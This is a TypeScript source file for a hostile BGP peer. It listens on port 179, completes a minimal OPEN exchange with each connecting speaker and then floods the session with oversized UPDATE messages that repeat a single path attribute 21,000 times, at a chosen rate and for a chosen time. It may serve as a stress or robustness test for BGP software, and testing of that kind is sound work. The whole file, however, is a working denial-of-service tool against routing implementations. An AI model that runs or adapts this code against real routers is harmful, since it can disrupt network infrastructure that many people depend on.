/**
 * A BGP peer that waits for speakers to connect, then floods each of them with UPDATEs of 63 KB that repeat an attribute 21,000 times.
 *   node updates.ts ADDRESS ASN SECONDS OCTETS_PER_SECOND
 * Prints `ready`, floods each session at OCTETS_PER_SECOND until SECONDS are over, then prints the number of UPDATEs sent.
 */
import { createServer, type Socket } from 'node:net';

const [address = '', asnText = '', secondsText = '30', rateText = '1000000'] = process.argv.slice(2);
const asn = Number(asnText);
const marker = Buffer.alloc(16, 0xff);

/** A message with its header (RFC 4271 section 4.1). */
function message(type: number, body: Buffer): Buffer {
  const header = Buffer.alloc(3);
  header.writeUInt16BE(19 + body.length, 0);
  header[2] = type;
  return Buffer.concat([marker, header, body]);
}

/** OPEN with multiprotocol IPv4 (RFC 4760), extended messages (RFC 8654) and four-octet AS numbers (RFC 6793). */
function open(): Buffer {
  const capabilities = Buffer.from([2, 14, 1, 4, 0, 1, 0, 1, 6, 0, 65, 4, 0, 0, asn >> 8, asn & 255]);
  const fixed = Buffer.from([4, asn >> 8, asn & 255, 0, 90, 192, 0, 2, 101, capabilities.length]);
  return message(1, Buffer.concat([fixed, capabilities]));
}

function hostileUpdate(): Buffer {
  const attributes = Buffer.concat(Array.from({ length: 21_000 }, () => Buffer.from([0xc0, 0x63, 0x00])));
  const lengths = Buffer.alloc(4);
  lengths.writeUInt16BE(attributes.length, 2);
  return message(2, Buffer.concat([lengths, attributes]));
}

const keepalive = message(4, Buffer.alloc(0));
const update = hostileUpdate();
const intervalMs = (update.length / Number(rateText)) * 1000;
let sent = 0;

function flood(socket: Socket): void {
  socket.on('error', () => {});
  socket.once('data', () => {
    socket.write(open());
    socket.write(keepalive);
    const timer = setInterval(() => {
      if (socket.writableLength > 1_000_000) return;
      socket.write(update);
      sent++;
    }, intervalMs);
    const keepalives = setInterval(() => socket.write(keepalive), 20_000);
    socket.once('close', () => {
      clearInterval(timer);
      clearInterval(keepalives);
    });
    socket.resume();
  });
}

createServer(flood).listen(179, address, () => {
  console.log('ready');
  setTimeout(() => {
    console.log(sent);
    process.exit();
  }, Number(secondsText) * 1000);
});
